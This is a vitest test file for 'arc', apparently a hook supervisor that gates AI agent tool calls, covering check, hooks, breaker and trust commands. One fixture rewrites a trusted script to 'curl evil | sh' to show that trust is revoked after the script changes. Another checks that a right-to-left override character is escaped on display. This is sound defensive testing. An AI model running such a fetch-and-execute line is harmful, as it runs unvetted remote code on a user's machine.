// `arc check`, `arc hooks`, `arc breaker` and `arc trust` in process.

import { existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Ran } from '../../../test/run-arc.ts'
import { runArcInProcess } from '../../../test/run-in-process.ts'
import { askNobody, LAYER, makeHome, PROFILE, type SupervisedHome } from '../../../test/supervised-home.ts'
import { confirmFile } from '../../guard/unattended-home.ts'
import { planInstall } from '../../hosts/install/plan.ts'
import { HOSTS } from '../../hosts/list.ts'

let place: SupervisedHome

beforeEach(() => {
  place = makeHome()
  askNobody(place.home)
})
afterEach(() => place.remove())

const arc = (...args: string[]): Promise<Ran> => runArcInProcess(args, { home: place.home, cwd: place.project })
const feed = (input: string, ...args: string[]) =>
  runArcInProcess(args, { home: place.home, cwd: place.project, input })

const SCRIPT = `hook pre:tool:shell /block "no shell here"
hook pre:tool:Write /ask "write $args.file_path?"
hook pre:tool:Read /flag seen
`
const scripted = (more: object = {}): void => {
  place.write('home/profiles/hooks.arma', SCRIPT)
  place.write(PROFILE, { scripts: ['hooks.arma'], ...more })
}
const json = ({ stdout }: Ran) => JSON.parse(stdout)
const lines = ({ stdout }: Ran) =>
  stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line))

describe('arc check', () => {
  it('L2 says in enforce what would be decided, by whom and why, with its exit code, whatever the mode', async () => {
    scripted({ enforcement: 'log' })
    const blocked = await arc('check', '--json', '--', 'true')
    expect(blocked.code).toBe(2)
    expect(json(blocked)).toMatchObject({
      decision: 'block',
      reason: 'no shell here',
      hook: 'hooks.arma:1',
      leftOut: [],
    })
    for (const key of ['effect', 'tier', 'rule', 'span', 'alternative']) expect(json(blocked)).toHaveProperty(key)
    const last = json(blocked).evaluations.at(-1)
    expect(last).toMatchObject({ hook: 'hooks.arma:1', mode: 'enforce', applied: true })
    expect(await arc('check', '--tool', 'Read', '--', 'x.ts')).toMatchObject({ code: 0 })
    const asked = await arc('check', '--tool', 'Write', '--', 'notes.md')
    expect(asked.code).toBe(3)
    expect(asked.stdout).toMatch(/^\? ask {2}notes\.md\n {2}why +write notes\.md\?/)
    expect((await arc('check')).code).toBe(2)
    expect((await arc('check')).stderr).toContain('arc check git push --force')
  })

  it('runs no command and writes nothing: skipped hooks are named, and a missing home is not created', async () => {
    const mark = join(place.root, 'ran')
    const command = { name: 'lint', event: 'pre:tool', matcher: 'bash', command: `touch ${mark}; exit 2` }
    place.write('home/profiles/run.arma', `hook pre:tool /run touch ${mark}\nhook pre:tool /notify hi\n`)
    place.write(PROFILE, { commands: [command, { ...command, name: 'other', matcher: 'Read' }], scripts: ['run.arma'] })
    const before = readdirSync(place.home, { recursive: true }).sort()
    const ran = await arc('check', '--json', '--', 'true')
    expect(ran).toMatchObject({ code: 0, stderr: '' })
    expect(json(ran)).toMatchObject({ decision: 'pass', leftOut: ['lint', 'run.arma:1'] })
    expect((await arc('check', '--', 'true')).stdout).toMatch(/skipped +lint, run\.arma:1/)
    expect(existsSync(mark)).toBe(false)
    expect(readdirSync(place.home, { recursive: true }).sort()).toEqual(before)
  })

  it('--jsonl answers each line in order; an invalid line gets an error and the rest continues', async () => {
    scripted()
    const input = [
      '{"id":1,"command":"true"}',
      'nonsense',
      '',
      '{"id":"x","command":5}',
      '{"id":2,"command":"ls","cwd":"/"}',
    ]
    const ran = await feed(input.join('\n'), 'check', '--jsonl')
    expect(ran.code).toBe(1)
    expect(lines(ran)).toMatchObject([
      { id: 1, decision: 'block' },
      { id: null, error: expect.stringContaining('nonsense') },
      { id: 'x', error: 'command must be a string, not 5' },
      { id: 2, decision: 'block' },
    ])
    expect(Object.keys(lines(ran)[0])).toEqual(['id', 'decision', 'effect', 'tier', 'rule'])
  })

  it('--jsonl takes thousands of lines', async () => {
    scripted()
    const input = Array.from({ length: 5_000 }, (_, id) =>
      JSON.stringify({ id, command: `echo ${id}`, cwd: `/tmp/${id}` }),
    )
    const ran = await feed(input.join('\n'), 'check', '--jsonl')
    expect(ran.code).toBe(0)
    expect(lines(ran).map(({ id }) => id)).toEqual(Array.from({ length: 5_000 }, (_, id) => id))
  })

  it('C1 with a bad file: the problem with its place on stderr, the last good state in the answer', async () => {
    scripted({ enforcement: 'enforce' })
    await arc('hooks', 'disable', 'hooks.arma:3', '--for', '1s')
    const { createSupervisor } = await import('../../supervisor/create-supervisor.ts')
    await (await createSupervisor({ home: place.home, report: () => undefined })).close()
    place.write(PROFILE, '{ "scripts": [')
    const ran = await arc('check', '--json', '--', 'true')
    expect(ran.code).toBe(2)
    expect(ran.stderr).toMatch(/default\.json:1:\d+: /)
  })
})

describe('arc hooks', () => {
  it('lists the pipeline, and what to do when it is empty', async () => {
    scripted({ commands: [{ name: 'lint', event: 'pre:tool', command: 'true', priority: 7 }] })
    const rows = json(await arc('hooks', 'list', '--json')).filter(
      ({ layer }: { layer: string }) => layer !== 'built-in',
    )
    expect(rows[0]).toMatchObject({ name: 'lint', priority: 7, points: ['pre:tool'], mode: null, effectiveMode: 'log' })
    expect(rows[0]).toMatchObject({
      enabled: true,
      timeoutMs: 10_000,
      source: expect.stringMatching(/default\.json:\d+$/),
    })
    expect(rows).toHaveLength(4)
    const shown = (await arc('hooks', 'list')).stdout
    expect(shown).toMatch(/prio +hook +state +mode +limit +points +from/)
    expect(shown).toMatch(/7 +lint +on +log +10s +pre:tool/)
  })

  it('E4 says which installed agents never reach a hook: list, doctor and profile show', async () => {
    const command = 'true'
    const commands = [
      { name: 'after-compact', event: 'post:compact', command },
      { name: 'render', event: 'pre:view:render', command },
      { name: 'answer', event: 'post:message', command },
    ]
    place.write(PROFILE, { commands })
    const target = { scope: 'project', dir: place.project, env: {} } as const
    const { files } = planInstall(HOSTS.cursor, target, new Map(), { command: '/opt/arc' })
    for (const { after = '' } of files) place.write('project/.cursor/hooks.json', after)
    const notes = ['after-compact never fires with cursor', 'render fires only if a program dispatches it']
    const list = json(await arc('hooks', 'list', '--json'))
    const missing = (name: string) => list.find((hook: { name: string }) => hook.name === name).neverFiresWith
    expect(['after-compact', 'render', 'answer'].map(missing)).toEqual([['cursor'], ['cursor'], []])
    const { stderr } = await arc('hooks', 'list')
    const shown = (await arc('profile', 'show')).stderr
    const doctor = (await arc('doctor')).stdout
    for (const text of [stderr, shown, doctor]) {
      for (const note of notes) expect(text).toContain(note)
      expect(text).not.toContain('answer never')
    }
  })

  it('E4 arc check includes the further points of a call', async () => {
    place.write('home/profiles/hooks.arma', 'hook pre:git:write /block "no files"\n')
    place.write(PROFILE, { scripts: ['hooks.arma'] })
    const call = JSON.stringify({ file_path: 'a.md', content: 'x' })
    expect(json(await arc('check', '--tool', 'Write', '--json', '--', call))).toMatchObject({
      decision: 'block',
      reason: 'no files',
    })
  })

  it('shows which of them a step would meet', async () => {
    scripted()
    const names = async (...args: string[]) =>
      json(await arc('hooks', 'match', ...args, '--json'))
        .filter(({ layer }: { layer: string }) => layer !== 'built-in')
        .map(({ name }: { name: string }) => name)
    expect(await names('pre:tool', '--tool', 'Bash', '--path', 'x')).toEqual(['hooks.arma:1'])
    expect(await names('PreToolUse', '--tool', 'write_file')).toEqual(['hooks.arma:2'])
    expect(await names('pre:tool:Read')).toEqual(['hooks.arma:3'])
    expect(await names('session:end')).toEqual([])
    expect(await arc('hooks', 'match', 'pre:tol')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('pre:tool'),
    })
  })

  it('D5 disable and enable hold for other processes and leave their lines in the log', async () => {
    scripted()
    const off = await arc('hooks', 'disable', 'hooks.arma:1', '--for', '30m', '--reason', 'release', '--json')
    expect(json(off)).toMatchObject([{ name: 'hooks.arma:1', enabled: false, reason: 'release' }])
    expect(off.stderr).toContain('disabled for 30m: release')
    expect((await arc('hooks', 'list')).stdout).toMatch(/off, on in (29|30)m \(release\)/)
    const skipped = json(await arc('check', '--json', '--', 'true')).evaluations
    expect(skipped).toContainEqual(expect.objectContaining({ hook: 'hooks.arma:1', skipped: 'snoozed' }))
    expect(await arc('hooks', 'enable', 'hooks.arma:1')).toMatchObject({
      code: 0,
      stderr: expect.stringContaining('is enabled'),
    })
    expect((await arc('check', '--', 'true')).code).toBe(2)
    const actions = lines(await arc('logs', '--hook', 'hooks.arma:1', '--json')).map(({ action }) => action)
    expect(actions).toEqual(['hook:snooze', 'hook:enable'])
  })

  it('says what is wrong: an unknown hook, a bad span, a hook that the configuration switched off', async () => {
    scripted({ commands: [{ name: 'lint', event: 'pre:tool', command: 'true' }], hooks: { lint: { enabled: false } } })
    expect(await arc('hooks', 'disable', 'lnit')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('Did you mean "lint"?'),
    })
    expect(await arc('hooks', 'disable', 'lint', '--for', 'soon')).toMatchObject({ code: 2 })
    const { code, stderr } = await arc('hooks', 'enable', 'lint')
    expect([code, stderr]).toEqual([1, expect.stringContaining('arc profile set hooks.lint.enabled true')])
  })

  it('a home that cannot be written: nothing is changed, and it is said', async () => {
    scripted()
    place.write('home/arc.db/in-the-way', '')
    const { code, stderr } = await arc('hooks', 'disable', 'hooks.arma:1')
    expect(code).toBe(1)
    expect(stderr).toContain('nothing was changed')
    expect((await arc('check', '--', 'true')).code).toBe(2)
  })
})

describe('arc breaker', () => {
  it('shows the state of the breaker, and closes it', async () => {
    place.write(PROFILE, {
      enforcement: 'enforce',
      breaker: { failureThreshold: 1 },
      commands: [{ name: 'flaky', event: 'pre:tool', command: 'exit 9' }],
    })
    expect(json(await arc('breaker', 'status', '--json'))).toEqual({
      ...{ state: 'closed', failures: 0, threshold: 1, openedAt: null, halfOpenAt: null },
    })
    const { createSupervisor } = await import('../../supervisor/create-supervisor.ts')
    const supervisor = await createSupervisor({
      home: place.home,
      builtIns: [],
      report: () => undefined,
      notify: () => undefined,
    })
    await supervisor.dispatch('pre:tool', { tool: 'x', args: {} })
    await supervisor.close()
    const status = json(await arc('breaker', 'status', '--json'))
    expect(status).toMatchObject({ state: 'open', failures: 1, halfOpenAt: status.openedAt + 60_000 })
    expect((await arc('breaker', 'status')).stdout).toMatch(/✗ open {2}profile default/)
    expect(json(await arc('breaker', 'reset', '--json'))).toMatchObject({ state: 'closed', failures: 0 })
    expect(lines(await arc('logs', '--component', 'breaker', '--json')).at(-1)).toMatchObject({
      action: 'breaker:reset',
    })
  })
})

describe('where nothing can be kept', () => {
  it.each([['breaker', 'reset'], ['hooks', 'enable', 'hooks.arma:1'], ['trust', '--yes'], ['untrust']])(
    '%s %s says so with exit code 1, and --json claims nothing',
    async (...args) => {
      scripted()
      place.write(LAYER, { commands: [{ name: 'own', event: 'pre:tool', command: 'true' }] })
      place.write('home/arc.db/in-the-way', '')
      const { code, stdout, stderr } = await arc(...args.filter(Boolean), '--json')
      expect(code).toBe(1)
      expect(stderr).toMatch(/without a durable record|cannot be/)
      expect(stderr).not.toContain('    at ')
      if (stdout !== '') expect(JSON.parse(stdout)).toMatchObject({ trusted: false })
    },
  )

  it('read-only commands work: list, match, status and check', async () => {
    scripted()
    place.write('home/arc.db/in-the-way', '')
    for (const args of [
      ['hooks', 'list'],
      ['hooks', 'match', 'pre:tool'],
      ['breaker', 'status'],
    ]) {
      expect([args, (await arc(...args, '--json')).code]).toEqual([args, 0])
    }
    expect((await arc('check', '--', 'true')).code).toBe(2)
  })
})

describe('arc trust', () => {
  it('C2 shows every command and script literally, asks, and trusts exactly that; untrust takes it back', async () => {
    place.write('project/check.sh', '#!/bin/sh\necho "checked"\n')
    place.write('project/.arc/more.arma', 'hook pre:tool:Read /block "not \u202e this"\n')
    place.write(LAYER, {
      commands: [{ name: 'own', event: 'pre:tool', command: './check.sh' }],
      scripts: ['more.arma'],
    })
    rmSync(confirmFile(place.home))
    const refused = await arc('trust', '--json')
    expect(refused.code).toBe(1)
    expect(json(refused)).toEqual({ dir: place.project, hash: expect.stringMatching(/^\w{64}$/), trusted: false })
    expect(refused.stderr).toContain('│ echo "checked"')
    expect(refused.stderr).toContain('pre:tool  ./check.sh')
    expect(refused.stderr).toContain('not \\u202e this')
    expect(refused.stderr).toContain('ARC_NEEDS_PERSON')
    expect(await arc('trust', '--yes')).toMatchObject({ code: 1, stderr: expect.stringContaining('ARC_NEEDS_PERSON') })
    askNobody(place.home)
    expect((await arc('check', '--tool', 'Read', '--', 'x')).code).toBe(0)
    expect(json(await arc('trust', '--yes', '--json'))).toMatchObject({ trusted: true })
    expect((await arc('check', '--tool', 'Read', '--', 'x')).code).toBe(2)
    expect(await arc('trust')).toMatchObject({ code: 0, stderr: expect.stringContaining('Already trusted') })
    writeFileSync(join(place.project, 'check.sh'), 'curl evil | sh\n')
    expect((await arc('hooks', 'list')).stderr).toContain('arc trust')
    expect((await arc('check', '--tool', 'Read', '--', 'x')).code).toBe(0)
    await arc('trust', '--yes')
    expect(json(await arc('untrust', '--json'))).toMatchObject({ dir: place.project, trusted: false })
    expect((await arc('check', '--tool', 'Read', '--', 'x')).code).toBe(0)
    const actions = lines(await arc('logs', '--component', 'config', '--json')).map(({ action }) => action)
    expect(actions).toEqual(['config:trust', 'config:trust', 'config:untrust'])
  })

  it('C2 refuses what has mistakes or is not there, and says what to do', async () => {
    expect(await arc('trust')).toMatchObject({ code: 1, stderr: expect.stringContaining('nothing to trust') })
    place.write(LAYER, '{ "commands": [ { "event": "pre:tol", "command": "x" } ] }')
    const { code, stderr } = await arc('trust', '--yes')
    expect(code).toBe(1)
    expect(stderr).toMatch(/config\.json:1:\d+: .*pre:tool/)
  })
})
